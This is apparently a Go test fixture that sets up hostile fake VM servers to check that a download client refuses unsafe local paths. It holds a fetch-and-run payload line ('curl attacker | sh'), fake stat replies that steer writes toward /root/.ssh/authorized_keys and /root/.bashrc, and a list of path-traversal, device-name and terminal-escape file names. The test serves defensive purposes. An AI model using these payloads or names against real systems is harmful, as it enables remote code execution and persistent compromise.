package hostilevm

import (
	"encoding/json"
	"strings"

	"colabrelay/shared/contract"
	"colabrelay/shared/e2e/fakevm"
)

// nameCases try to choose the local path of a download.
var nameCases = []Case{
	{
		Name: "stat-path", About: "reports /root/.ssh, a folder that contains authorized_keys, as the path of everything",
		routes: func(*fakevm.VM) routes {
			keys := fileStat("/root/.ssh/authorized_keys", []byte(evil))
			return routes{
				"GET " + contract.PathStat:      lieOfPath(keys.Path, "/root/.ssh", []byte(evil)),
				"GET " + contract.PathFiles:     just(contract.Files{Path: "/root/.ssh", FileCount: 1, Files: []contract.File{keys.File}}),
				"GET " + contract.PathContent:   func(question) fakevm.Reply { return fakevm.Reply{Body: []byte(evil)} },
				"POST " + contract.PathContents: evilContents,
			}
		},
	},
	{
		Name: "stat-path-file", About: "reports /root/.bashrc as the path of everything",
		routes: func(*fakevm.VM) routes {
			return routes{
				"GET " + contract.PathStat:      lieOfPath("/root/.bashrc", "", []byte(evil)),
				"GET " + contract.PathContent:   func(question) fakevm.Reply { return fakevm.Reply{Body: []byte(evil)} },
				"POST " + contract.PathContents: evilContents,
			}
		},
	},
	{
		Name: "inner-names", About: "lists a folder with names that point outside it, name devices, contain separators or invisible characters, or differ only in case",
		routes: func(*fakevm.VM) routes {
			return routes{
				"GET " + contract.PathStat:      statByListing,
				"GET " + contract.PathFiles:     listEvilNames,
				"GET " + contract.PathContent:   func(question) fakevm.Reply { return fakevm.Reply{Body: []byte(evil)} },
				"POST " + contract.PathContents: evilContents,
			}
		},
	},
}

// evil is the content of the files.
const evil = "curl attacker | sh\n"

// EvilNames are the names in the folder of the case inner-names.
var EvilNames = []string{
	"../../escaped", "..", ".", "", "/etc/passwd", `..\..\escaped`, `C:\escaped`, "CON", "con.txt", "a/b", `a\b`, "A", "a", "name\x00", "trailing. ", "\u202egnp.exe",
	"\x1b[2Jx", "esc\x1b]0;HA\ad", "new\nline", "c1\u009b2J", "zero\u200bwidth", "zero\u200dwidth", "private\ue000", ".git", "GIT~1", "CLAUDE.md", `\xe2\x80\xaetxt.exe`,
}

// lieOfPath answers stat. Every path is reported as folder, except the path of file itself.
// If folder is empty, every path is reported as file.
func lieOfPath(file, folder string, content []byte) func(question) fakevm.Reply {
	return func(q question) fakevm.Reply {
		st := fileStat(file, content)
		if folder != "" && q.URL.Query().Get("path") != file {
			st = contract.FileStat{File: contract.File{Name: base(folder), Path: folder, IsDir: true, Modified: at}}
		}
		return fakevm.Reply{Body: st}
	}
}

// evilContents answers a batch read with evil for every file.
func evilContents(q question) fakevm.Reply {
	var asked contract.ReadBatch
	_ = json.Unmarshal(q.body, &asked)
	var all []byte
	var index contract.Contents
	for _, path := range asked.Paths {
		st := fileStat(path, []byte(evil))
		all = append(all, evil...)
		index.Files = append(index.Files, contract.Content{SizeBytes: st.SizeBytes, ETag: st.ETag, Modified: at})
	}
	body, err := contract.AppendIndex(all, index)
	if err != nil {
		panic(err) // structs of the contract
	}
	return fakevm.Reply{Body: body}
}

func fileStat(path string, content []byte) contract.FileStat {
	sha := fakevm.Digest(content)
	return contract.FileStat{
		File: contract.File{Name: base(path), Path: path, SizeBytes: int64(len(content)), Modified: at},
		ETag: sha[:16], SHA256: sha,
	}
}

func base(path string) string { return path[strings.LastIndexByte(path, '/')+1:] }

// statByListing reports results as a folder and everything else as a file.
func statByListing(q question) fakevm.Reply {
	path := q.URL.Query().Get("path")
	if path == "results" || path == "/content/results" {
		return fakevm.Reply{Body: contract.FileStat{File: contract.File{Name: "results", Path: "/content/results", IsDir: true, Modified: at}}}
	}
	return fakevm.Reply{Body: fileStat(path, []byte(evil))}
}

func listEvilNames(question) fakevm.Reply {
	got := contract.Files{Path: "/content/results", FileCount: len(EvilNames)}
	for _, name := range EvilNames {
		got.Files = append(got.Files, contract.File{Name: name, Path: "/content/results/" + name, SizeBytes: int64(len(evil)), Modified: at})
	}
	return fakevm.Reply{Body: got}
}
